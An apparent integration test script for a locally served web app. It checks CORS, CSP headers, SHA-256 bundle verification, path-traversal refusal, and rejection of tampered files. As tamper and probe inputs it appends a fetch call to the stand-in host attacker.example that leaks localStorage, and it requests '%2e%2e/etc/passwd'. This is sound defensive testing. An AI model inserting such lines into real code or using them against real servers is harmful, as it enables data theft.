#!/usr/bin/env bash
# The web app served from the officer's own machine (`parley web`): the bundle checked
# against its SHA256SUMS before anything is served (an altered or an extra file is
# refused), the strict headers with connect-src naming the hub, config.json from the
# officer's config; and the hub's API open to such a page across origins (CORS
# preflight and headers) while /app/ and the status page stay same-origin.
. "$PARLEY_SRC/tests/integration/lib.sh"
: "${PARLEY_WEB_OUT:?run through ctest}"
[ -f "$PARLEY_WEB_OUT/index.html" ] || { echo "web app not built in $PARLEY_WEB_OUT (run make deps; make build)" >&2; exit 1; }

start_hub "$WORK/hub"
new_user officer
"$PARLEY" --config /dev/null witness init --name w.example/1 --out "$WORK/w.key" >/dev/null
VKEY=$("$PARLEY" --config /dev/null witness show --key "$WORK/w.key" | tail -1)
printf 'witness = %s\nwitnesses_required = 1\n' "$VKEY" >>"$WORK/officer.conf"

# ---- the hub: CORS on the API only ------------------------------------------------
code=$(curl -s -o /dev/null -D "$WORK/pre" -w '%{http_code}' -X OPTIONS "$HUB/v1/inbox" \
  -H 'Origin: http://127.0.0.1:8450' -H 'Access-Control-Request-Method: GET' \
  -H 'Access-Control-Request-Headers: signature, signature-input, content-digest, last-event-id')
check "an OPTIONS preflight of /v1/inbox is answered 204" test "$code" = 204
check "... allowing any origin, without credentials" sh -c "grep -qi '^access-control-allow-origin: \*' '$WORK/pre' && ! grep -qi 'allow-credentials' '$WORK/pre'"
check "... and the signature headers" grep -qi '^access-control-allow-headers:.*Signature-Input.*Last-Event-ID' "$WORK/pre"
curl -s -o /dev/null -D "$WORK/h1" "$HUB/log/checkpoint"
check "a log read carries Access-Control-Allow-Origin" grep -qi '^access-control-allow-origin: \*' "$WORK/h1"
curl -s -o /dev/null -D "$WORK/h2" "$HUB/v1/whoami"
check "an unsigned API request's refusal carries it too (the page reads the error)" grep -qi '^access-control-allow-origin' "$WORK/h2"
curl -s -o /dev/null -D "$WORK/h3" "$HUB/app/"
check "/app/ stays same-origin (no CORS header)" sh -c "! grep -qi '^access-control-allow-origin' '$WORK/h3'"
curl -s -o /dev/null -D "$WORK/h4" "$HUB/"
check "the status page stays same-origin" sh -c "! grep -qi '^access-control-allow-origin' '$WORK/h4'"
code=$(curl -s -o /dev/null -w '%{http_code}' -X OPTIONS "$HUB/app/")
check "OPTIONS outside the API is not a preflight (405)" test "$code" = 405

# ---- parley web ---------------------------------------------------------------------
serve() { # DIR: starts parley web on a free port; sets WEB_PID and WEB
  "$PARLEY" --config "$WORK/officer.conf" web --port 0 --dir "$1" >"$WORK/web.out" 2>&1 &
  WEB_PID=$!
  for _ in $(seq 1 50); do grep -q '^Parley web app: ' "$WORK/web.out" && break; kill -0 $WEB_PID 2>/dev/null || break; sleep 0.1; done
  WEB=$(sed -n 's/^Parley web app: //p' "$WORK/web.out")
}
serve "$PARLEY_WEB_OUT"
check "parley web starts and prints its address" test -n "$WEB"
sums=$(sha256sum "$PARLEY_WEB_OUT/SHA256SUMS" | cut -d' ' -f1)
check "... and the SHA-256 of the bundle's SHA256SUMS, to compare with the release's" grep -q "$sums" "$WORK/web.out"
curl -s -D "$WORK/wh" -o "$WORK/index.html" "$WEB"
origin=$(sed 's|^\(https\?://[^/]*\).*|\1|' <<<"$HUB")
check "the page is served" grep -q '<div id="app"' "$WORK/index.html"
check "its CSP lets it connect to the hub's origin only (besides itself)" grep -qi "^content-security-policy:.*connect-src 'self' $origin;" "$WORK/wh"
check "... with no inline script and no framing" grep -qi "^content-security-policy:.*script-src 'self' 'wasm-unsafe-eval';.*frame-ancestors 'none'" "$WORK/wh"
check "Referrer-Policy and nosniff" sh -c "grep -qi '^referrer-policy: no-referrer' '$WORK/wh' && grep -qi '^x-content-type-options: nosniff' '$WORK/wh'"
cfg=$(curl -s "${WEB}config.json")
check "config.json names the hub and the witnesses of the officer's config" \
  python3 -c "import json,sys; c=json.loads(sys.argv[1]); assert c['hub']=='$HUB', c; assert c['witnesses']==['$VKEY'], c; assert c['witnesses_required']==1, c" "$cfg"
for p in ../SHA256SUMS %2e%2e/etc/passwd .hidden nothing.js; do
  code=$(curl -s -o /dev/null -w '%{http_code}' --path-as-is "${WEB}$p")
  check "GET /app/$p is 404" test "$code" = 404
done
code=$(curl -s -o /dev/null -w '%{http_code}' -X POST --data x "$WEB" || true)
check "a POST is refused (405)" test "$code" = 405
kill -TERM $WEB_PID; wait $WEB_PID || true

# an altered file, or one the sums do not list, and nothing is served
mkdir -p "$WORK/web1" "$WORK/web2"
cp "$PARLEY_WEB_OUT"/* "$WORK/web1/"; cp "$PARLEY_WEB_OUT"/* "$WORK/web2/"
js=$(cd "$WORK/web1" && ls app-*.js)
printf '\n;fetch("https://attacker.example/"+localStorage.length);\n' >>"$WORK/web1/$js"
check "a bundle with an altered file is refused, naming it" \
  expect_fail "$js: its SHA-256 differs" "$PARLEY" --config "$WORK/officer.conf" web --port 0 --dir "$WORK/web1"
echo 'alert(1)' >"$WORK/web2/extra.js"
check "a bundle with a file its sums do not list is refused" \
  expect_fail "extra.js: not listed in SHA256SUMS" "$PARLEY" --config "$WORK/officer.conf" web --port 0 --dir "$WORK/web2"
check "a hub URL that is not http(s) is refused" \
  expect_fail "not an http(s) URL" "$PARLEY" --config /dev/null --hub 'file:///etc/passwd' web --port 0
finish
